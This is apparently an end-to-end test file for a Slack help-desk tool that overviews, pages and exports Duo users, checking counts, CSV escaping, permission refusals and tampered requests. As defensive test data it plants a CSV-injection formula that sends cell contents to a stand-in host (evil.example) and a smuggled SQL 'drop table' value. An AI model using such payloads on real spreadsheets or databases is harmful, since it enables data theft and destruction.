import type { StoredMessage } from '@duo-desk/slack-testbed';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inFilter, USER_FILTER_LABELS, USER_FILTERS, type UserFilter } from '../../src/domain/users-overview.js';
import type { User } from '../../src/duo/types.js';
import { createMemoryLogger } from '../../src/log.js';
import { refreshDirectoryUser, syncDirectory } from '../../src/usecases/directory-index.js';
import { ACTIONS } from '../../views/ids.js';
import { exportValue } from '../../views/users.js';
import { auditRows, until } from '../support/audit.js';
import { clickAction } from '../support/forge.js';
import { type Harness, PEOPLE, startHarness } from '../support/harness.js';

/**
 * `/duo users` end to end: the counts against the simulator's own directory (read back through the Admin API),
 * a filter's pages, the export of exactly the filter (and CSV injection neutralised), and the refusals.
 */
let h: Harness;

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const ATTACK_USERNAME = '@sum(1+1)';

async function sync() {
  await syncDirectory(h.runtime.deps.duo, h.runtime.db.em.fork(), {
    clock: h.runtime.deps.clock,
    logger: createMemoryLogger('error'),
    pageDelayMs: 0,
  });
}

/** The simulator's directory as Duo lists it (GET /admin/v1/users, paged). */
async function duoUsers(): Promise<User[]> {
  const out: User[] = [];
  for await (const page of h.runtime.deps.duo.iterateUsers({ pageSize: 300 })) out.push(...page);
  return out;
}

const facts = (u: User) => ({
  status: u.status,
  isEnrolled: u.is_enrolled ?? null,
  lastLogin: u.last_login ? new Date(u.last_login * 1000) : null,
  created: u.created ? new Date(u.created * 1000) : null,
});

async function expected(filter: UserFilter): Promise<User[]> {
  const now = h.runtime.deps.clock.now();
  return (await duoUsers()).filter((u) => inFilter(filter, facts(u), now));
}

/** The newest ephemeral message for `userId` containing `contains`, among those created after `after` messages. */
const ephemeral = (userId: string, contains: string, after = 0) =>
  h.slack.waitFor(
    () =>
      h.slack
        .messages()
        .slice(after)
        .findLast((m) => m.ephemeralUser === userId && JSON.stringify(m.blocks ?? []).includes(contains)),
    { description: `an ephemeral message for ${userId} containing ${contains}` },
  );

/** Runs a command and waits for its reply (a new message). */
async function reply(userId: string, text: string, contains: string) {
  const before = h.slack.messages().length;
  await h.driver.command(userId, text);
  return ephemeral(userId, contains, before);
}

/** Clicks a button of a message and waits until the message's list is no longer `was` (it is replaced in place). */
async function clickAndWait(m: StoredMessage, label: string, userId: string) {
  const was = JSON.stringify(listed(m));
  await h.driver.clickButton(m, label, userId);
  return h.slack.waitFor(
    () => {
      const now = h.slack.messages().find((x) => x.channel === m.channel && x.ts === m.ts);
      return now && JSON.stringify(listed(now)) !== was ? now : undefined;
    },
    { description: `the list after ${label}` },
  );
}

const sectionTexts = (m: StoredMessage) =>
  ((m.blocks ?? []) as Array<{ type: string; text?: { text: string } }>)
    .filter((b) => b.type === 'section')
    .map((b) => b.text?.text ?? '');
const listed = (m: StoredMessage) =>
  sectionTexts(m)
    .slice(1)
    .map((t) => /^\*([^*]+)\*/.exec(t)?.[1] ?? '');
const unesc = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

beforeAll(async () => {
  h = await startHarness({ startJobs: false });
  // 45 more locked-out users: three pages of the "Locked out" filter.
  for (let i = 0; i < 45; i++)
    h.duo.addUser({
      username: `zz.locked.${String(i).padStart(2, '0')}`,
      email: `zz.locked.${i}@example.com`,
      status: 'locked out',
      lockout_reason: 'Failed Attempts',
      created: 1_700_000_000,
      last_login: null,
    });
  h.duo.addUser({
    username: ATTACK_USERNAME,
    realname: FORMULA_NAME,
    email: '-2+3@example.com',
    notes: '\tcmd',
    status: 'locked out',
    lockout_reason: 'Failed Attempts',
  });
  await sync();
});
afterAll(async () => {
  await h?.close();
});

describe('/duo users', () => {
  it("when a help-desk agent asks for the overview, then each of the seed's counts matches the simulator's directory and the view is audited", async () => {
    const before = h.slack.calls.length;
    const msg = await reply(PEOPLE.helpDesk, 'users', 'Duo users');
    const text = unesc(sectionTexts(msg)[0]!);
    const counts: Record<string, number> = {};
    for (const f of USER_FILTERS) {
      const want = (await expected(f)).length;
      counts[f] = want;
      expect(text).toContain(`*${USER_FILTER_LABELS[f]}:* ${want.toLocaleString('en-US')}`);
    }
    expect(counts.locked_out).toBeGreaterThanOrEqual(46);
    expect(counts.trash).toBeGreaterThan(0);
    expect(counts.bypass).toBeGreaterThan(0);
    expect(counts.not_enrolled).toBeGreaterThan(0);
    expect(h.slack.calls.slice(before).some((c) => c.method === 'response_url')).toBe(true);
    const viewed = await auditRows(h, "action = 'users.overview_viewed' and actor_user_id = ?", [PEOPLE.helpDesk]);
    expect(viewed.at(-1)!.params).toMatchObject(counts);
  });

  it('when the agent opens a filter and pages through it, then every user of the filter shows once, in username order, and Previous goes back', async () => {
    const overview = await reply(PEOPLE.helpDesk, 'users', 'Duo users');
    const want = (await expected('locked_out')).map((u) => u.username);
    let page = await clickAndWait(overview, `Locked out (${want.length})`, PEOPLE.helpDesk);
    expect(sectionTexts(page)[0]).toContain('*Locked out*');
    expect(listed(page)).toHaveLength(20);
    const pages: string[][] = [];
    for (;;) {
      pages.push(listed(page).map(unesc));
      if (!JSON.stringify(page.blocks).includes('Next ▶')) break;
      page = await clickAndWait(page, 'Next ▶', PEOPLE.helpDesk);
    }
    const seen = pages.flat();
    expect(pages.length).toBe(Math.ceil(want.length / 20));
    expect(new Set(seen).size).toBe(seen.length);
    expect([...seen].sort()).toEqual([...want].sort());
    const key = (s: string) => Buffer.from(s.toLowerCase());
    expect(seen).toEqual([...seen].sort((a, b) => Buffer.compare(key(a), key(b))));

    const back = await clickAndWait(page, '◀ Previous', PEOPLE.helpDesk);
    expect(listed(back).map(unesc)).toEqual(pages.at(-2));
    const listedRows = await auditRows(h, "action = 'users.listed' and actor_user_id = ?", [PEOPLE.helpDesk]);
    expect(listedRows.at(-1)!.params).toMatchObject({ filter: 'locked_out', total: want.length });
  });

  it('when the index changes between two pages, then the next page shows the index as it is then', async () => {
    const page1 = await reply(PEOPLE.helpDesk, 'users locked_out', '*Locked out*');
    const last = unesc(listed(page1).at(-1)!);
    // A user who sorts right after the last one on this page appears on the next page without a full pass.
    const added = h.duo.addUser({ username: `${last}a`, status: 'locked out', lockout_reason: 'Failed Attempts' });
    const fresh = await h.runtime.deps.duo.getUserById(added.user_id);
    await refreshDirectoryUser(h.runtime.db.em.fork(), fresh);
    const page2 = await clickAndWait(page1, 'Next ▶', PEOPLE.helpDesk);
    expect(unesc(listed(page2)[0]!)).toBe(`${last}a`);
  });

  it('when the agent exports a filter as CSV, then exactly the filtered users are in the file, in their DMs only, and the export is audited', async () => {
    const filesBefore = h.slack.files().length;
    const r = await h.driver.command(PEOPLE.helpDesk, 'users export csv locked_out');
    expect(JSON.stringify(r.body)).toContain('Preparing the export');
    const file = await h.slack.waitFor(() =>
      h.slack
        .files()
        .slice(filesBefore)
        .find((f) => f.completed),
    );
    expect(file.channelId).toBe(h.slack.dmChannelFor(PEOPLE.helpDesk));
    expect(file.filename).toMatch(/^duo-desk-users-locked-out-.+\.csv$/);
    const lines = file.text.trim().split('\n');
    expect(lines[0]).toBe('user_id,username,realname,email,status,is_enrolled,last_login,created,directory_synced');
    const ids = lines.slice(1).map((l) => JSON.parse(l.split(',')[0]!) as string);
    const want = await expected('locked_out');
    expect([...ids].sort()).toEqual(want.map((u) => u.user_id).sort());
    for (const l of lines.slice(1)) expect(l).toContain('"locked out"');
    // No secrets and nothing a phone or device would give away: the index keeps none.
    expect(file.text).not.toMatch(/\+1555|DP[A-Z0-9]{18}|activation|barcode/i);
    const exported = await auditRows(h, "action = 'users.exported' and actor_user_id = ?", [PEOPLE.helpDesk]);
    expect(exported.at(-1)!.params).toMatchObject({ filter: 'locked_out', format: 'csv', rows: want.length });
  });

  it('when a Duo user is named with spreadsheet formulas (CSV injection), then every such cell of the export starts with a quote and cannot run', async () => {
    const filesBefore = h.slack.files().length;
    await h.driver.command(PEOPLE.owner, 'users export csv locked_out');
    const file = await h.slack.waitFor(() =>
      h.slack
        .files()
        .slice(filesBefore)
        .find((f) => f.completed),
    );
    const line = file.text.split('\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line).toContain(`"'${ATTACK_USERNAME}"`);
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(line).toContain(`"'-2+3@example.com"`);
    // No cell of the file starts with a formula character.
    for (const l of file.text.trim().split('\n').slice(1))
      for (const cell of l.match(/"(?:[^"]|"")*"/g) ?? []) expect(cell).not.toMatch(/^"[=+\-@\t\r]/);
  });

  it('when the agent clicks Export JSON under a page, then the JSON holds exactly that filter', async () => {
    const page = await reply(PEOPLE.helpDesk, 'users trash', '*In Trash*');
    const filesBefore = h.slack.files().length;
    await h.driver.clickButton(page, 'Export JSON', PEOPLE.helpDesk);
    const file = await h.slack.waitFor(() =>
      h.slack
        .files()
        .slice(filesBefore)
        .find((f) => f.completed),
    );
    expect(file.channelId).toBe(h.slack.dmChannelFor(PEOPLE.helpDesk));
    const rows = JSON.parse(file.text) as Array<{ user_id: string; status: string }>;
    expect(rows.map((r) => r.user_id).sort()).toEqual((await expected('trash')).map((u) => u.user_id).sort());
    expect(rows.every((r) => r.status === 'pending deletion')).toBe(true);
  });

  it('when someone who is not a responder asks for the overview, a page or an export, then all are refused, nothing is uploaded, and the refusals are audited', async () => {
    const filesBefore = h.slack.files().length;
    for (const text of ['users', 'users locked_out', 'users export csv']) {
      const r = await h.driver.command(PEOPLE.stranger, text);
      expect(JSON.stringify(r.body)).toContain('not a duo-desk responder');
    }
    expect(h.slack.files()).toHaveLength(filesBefore);
    const denied = await auditRows(h, "action = 'permission.denied' and actor_user_id = ?", [PEOPLE.stranger]);
    expect(denied.length).toBeGreaterThanOrEqual(1);
    expect(await auditRows(h, "action like 'users.%' and actor_user_id = ?", [PEOPLE.stranger])).toEqual([]);
  });

  it("when a stranger clicks the Export button of an agent's page (a second Slack account), then it is refused and nothing is uploaded", async () => {
    const page = await reply(PEOPLE.helpDesk, 'users bypass', '*Bypass*');
    const filesBefore = h.slack.files().length;
    const refused = async () =>
      Number(
        (
          await h.runtime.db.em
            .fork()
            .getConnection()
            .execute<Array<{ n: string | null }>>('select sum(count) as n from refusal_window where user_id = ?', [
              PEOPLE.stranger,
            ])
        )[0]?.n ?? 0,
      );
    const refusedBefore = await refused();
    // The real button (its real value), clicked by someone else.
    await clickAction(h, { message: { channel: page.channel, ts: page.ts } }, ACTIONS.usersExport, PEOPLE.stranger, {
      match: exportValue('bypass', 'csv'),
    });
    await until(async () => (await refused()) > refusedBefore, 'the refusal of the stranger', 5_000);
    expect(h.slack.files()).toHaveLength(filesBefore);
    expect(await auditRows(h, "action like 'users.%' and actor_user_id = ?", [PEOPLE.stranger])).toEqual([]);
  });

  it('when a page or export button value is forged (an unknown filter, extra fields, not JSON), then it is refused as tampered and nothing is listed or sent', async () => {
    const page = await reply(PEOPLE.helpDesk, 'users bypass', '*Bypass*');
    const where = { message: { channel: page.channel, ts: page.ts } };
    const listedBefore = (await auditRows(h, "action like 'users.%'")).length;
    const tamperedBefore = (await auditRows(h, "action = 'request.tampered' and actor_user_id = ?", [PEOPLE.helpDesk]))
      .length;
    const filesBefore = h.slack.files().length;
    const forged: Array<[string, string]> = [
      [ACTIONS.usersPage, JSON.stringify({ f: 'everyone', a: ['a', 'b'] })],
      [ACTIONS.usersPage, JSON.stringify({ f: 'bypass', a: ['x', 'y'], limit: 100000 })],
      [ACTIONS.usersExport, JSON.stringify({ f: 'bypass', fmt: 'xlsx' })],
      [ACTIONS.usersExport, 'not json'],
      [ACTIONS.usersFilter, 'all; drop table directory_entry'],
    ];
    for (const [actionId, value] of forged) await clickAction(h, where, actionId, PEOPLE.helpDesk, { value });
    await until(
      async () =>
        (await auditRows(h, "action = 'request.tampered' and actor_user_id = ?", [PEOPLE.helpDesk])).length >=
        tamperedBefore + forged.length,
      'five tampering rows',
      5_000,
    );
    expect((await auditRows(h, "action like 'users.%'")).length).toBe(listedBefore);
    expect(h.slack.files()).toHaveLength(filesBefore);
  });

  it('when the filter word is wrong, then the agent is told the filters', async () => {
    const r = await h.driver.command(PEOPLE.helpDesk, 'users everyone');
    expect(JSON.stringify(r.body)).toContain('Unknown filter');
    const r2 = await h.driver.command(PEOPLE.helpDesk, 'users export xml');
    expect(JSON.stringify(r2.body)).toContain('Say which format');
  });
});
